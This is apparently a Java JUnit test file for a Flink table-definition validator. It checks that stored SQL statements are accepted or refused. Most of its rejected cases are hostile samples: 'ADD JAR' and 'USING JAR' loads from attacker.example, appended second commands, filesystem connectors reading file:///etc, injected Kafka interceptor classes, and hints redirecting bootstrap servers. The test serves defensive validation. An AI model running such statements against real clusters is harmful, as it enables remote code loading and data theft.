package io.mtables.planning;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mtables.schemas.catalog.TableDefinition;
import io.mtables.schemas.catalog.TableDefinitionBuilder;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a definition read from mt.table.definitions may carry before its SQL reaches Flink. */
class StoredStatementsTest {

    private static final String ORDERS = "default_catalog.shop.orders";
    private static final String DECLARED =
            "CREATE TABLE shop.orders (id BIGINT, ds STRING) WITH ('connector' = 'datagen')";

    @ParameterizedTest
    @ValueSource(
            strings = {
                DECLARED,
                "CREATE TABLE IF NOT EXISTS `shop`.`orders` (id BIGINT) WITH ('connector' ="
                        + " 'datagen')",
                "CREATE TABLE `default_catalog`.`shop`.`orders` (id BIGINT) WITH ('connector' ="
                        + " 'datagen')",
                "CREATE TABLE orders (id BIGINT, PRIMARY KEY (id) NOT ENFORCED) WITH"
                        + " ('connector' = 'upsert-kafka', 'topic' = 't')"
            })
    void whatDdlServiceWritesPasses(String statement) {
        assertThatCode(() -> StoredStatements.check(source(statement))).doesNotThrowAnyException();
        assertThatCode(() -> StoredStatements.check(materialized(statement, "SELECT id FROM o")))
                .doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ADD JAR 'http://attacker.example/evil.jar'",
                "SET 'pipeline.jars' = 'file:///tmp/evil.jar'",
                "CREATE FUNCTION shop.f AS 'Evil' USING JAR 'http://attacker.example/evil.jar'",
                DECLARED + "; ADD JAR 'http://attacker.example/evil.jar'",
                "CREATE TEMPORARY TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen')",
                "CREATE TABLE shop.payments (id BIGINT) WITH ('connector' = 'datagen')",
                "CREATE TABLE other.orders (id BIGINT) WITH ('connector' = 'datagen')",
                "CREATE TABLE cat.shop.orders (id BIGINT) WITH ('connector' = 'datagen')",
                "CREATE TABLE shop.orders WITH ('connector' = 'datagen') AS SELECT 1 AS id",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen') LIKE x",
                "DROP TABLE shop.orders",
                "not sql at all",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'filesystem', 'path' ="
                        + " 'file:///etc', 'format' = 'csv')",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('path' = 'file:///etc')",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' ="
                        + " 'mt.ddl.results', 'format' = 'json')",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' = 't',"
                        + " 'format' = 'json', 'properties.interceptor.classes' = 'a.Evil')",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' = 't',"
                        + " 'format' = 'avro-confluent')",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'kafka', 'topic' ="
                        + " 't;\"mt.ddl.access\"', 'format' = 'json')",
                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen', 'connector' ="
                        + " 'filesystem', 'path' = 'file:///etc')"
            })
    void anythingElseIsRefusedInTheDefinitionAndInAReadersSources(String statement) {
        assertThatThrownBy(() -> StoredStatements.check(source(statement)))
                .isInstanceOf(StoredStatements.ForgedStatementException.class)
                .hasMessageContaining(ORDERS);
        assertThatThrownBy(() -> StoredStatements.check(materialized(statement, "SELECT 1")))
                .isInstanceOf(StoredStatements.ForgedStatementException.class)
                .hasMessageContaining("not run");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DROP TABLE shop.orders",
                "SELECT 1; ADD JAR 'http://attacker.example/evil.jar'",
                "INSERT INTO shop.orders SELECT 1, 'x'",
                "SELECT * FROM shop.orders /*+ OPTIONS('scan.snapshot-id' = '3') */",
                "SELECT id FROM (SELECT o.id FROM shop.orders o JOIN shop.orders /*+"
                        + " OPTIONS('properties.bootstrap.servers' = 'evil:9092') */ p ON o.id ="
                        + " p.id)"
            })
    void aQueryThatIsNotOneQueryIsRefused(String query) {
        assertThatThrownBy(() -> StoredStatements.check(materialized(DECLARED, query)))
                .isInstanceOf(StoredStatements.ForgedStatementException.class);
    }

    @Test
    void queriesWithFlinksOwnSyntaxPass() {
        for (String query :
                List.of(
                        "WITH x AS (SELECT id FROM shop.orders) SELECT * FROM x ORDER BY id",
                        "SELECT window_start, count(*) FROM TABLE(TUMBLE(TABLE shop.orders,"
                                + " DESCRIPTOR(ts), INTERVAL '1' MINUTE)) GROUP BY window_start",
                        "SELECT /*+ STATE_TTL('o' = '1d') */ * FROM shop.orders o")) {
            assertThatCode(() -> StoredStatements.check(materialized(DECLARED, query)))
                    .as(query)
                    .doesNotThrowAnyException();
        }
    }

    @Test
    void resumeOptionsDdlServiceDoesNotAcceptAreRefused() {
        TableDefinition tuned =
                withResumeOptions(
                        materialized(DECLARED, "SELECT * FROM shop.orders"),
                        Map.of(StoredStatements.RESUME_STATE_TTL, "1 d"));
        assertThatCode(() -> StoredStatements.check(tuned)).doesNotThrowAnyException();
        for (String forged :
                List.of(
                        "pipeline.jars",
                        "execution.state-recovery.path",
                        "parallelism.default",
                        "state.checkpoints.dir")) {
            assertThatThrownBy(
                            () ->
                                    StoredStatements.check(
                                            withResumeOptions(
                                                    materialized(
                                                            DECLARED, "SELECT * FROM shop.orders"),
                                                    Map.of(forged, "x"))))
                    .as(forged)
                    .isInstanceOf(StoredStatements.ForgedStatementException.class)
                    .hasMessageContaining("'" + forged + "'");
            // ddl-service applies no RESUME option: a table stored before the allow-list stays in
            // its catalog, to be altered or dropped.
            assertThatCode(
                            () ->
                                    StoredStatements.checkStatements(
                                            withResumeOptions(
                                                    materialized(
                                                            DECLARED, "SELECT * FROM shop.orders"),
                                                    Map.of(forged, "x"))))
                    .doesNotThrowAnyException();
        }
    }

    private static TableDefinition withResumeOptions(
            TableDefinition d, Map<String, String> resumeOptions) {
        return TableDefinitionBuilder.builder(d)
                .resumeOptions(resumeOptions)
                .queryChange(null)
                .previewedPlan(null)
                .owner(null)
                .build();
    }

    private static TableDefinition source(String statement) {
        return definition(ORDERS, TableDefinition.Kind.SOURCE_TABLE, statement, null, List.of());
    }

    private static TableDefinition materialized(String sourceStatement, String query) {
        return definition(
                "default_catalog.shop.mt",
                TableDefinition.Kind.MATERIALIZED_TABLE,
                "CREATE MATERIALIZED TABLE shop.mt AS " + query,
                new TableDefinition.Query(query, query),
                List.of(
                        new TableDefinition.SourceTable(
                                ORDERS,
                                TableDefinition.Kind.SOURCE_TABLE,
                                1,
                                sourceStatement,
                                List.of(),
                                List.of())));
    }

    private static TableDefinition definition(
            String table,
            TableDefinition.Kind kind,
            String statement,
            TableDefinition.Query query,
            List<TableDefinition.SourceTable> sources) {
        return TableDefinitionBuilder.builder()
                .table(table)
                .version(1)
                .kind(kind)
                .statement(statement)
                .columns(List.of(new TableDefinition.Column("id", "BIGINT", false)))
                .primaryKey(List.of())
                .partitionKeys(List.of())
                .distribution(null)
                .options(Map.of())
                .comment(null)
                .freshness(null)
                .refreshMode(null)
                .query(query)
                .sources(sources)
                .status(TableDefinition.Status.ACTIVE)
                .resumeOptions(Map.of())
                .createdAt(Instant.EPOCH)
                .updatedAt(Instant.EPOCH)
                .requestId(null)
                .build();
    }
}
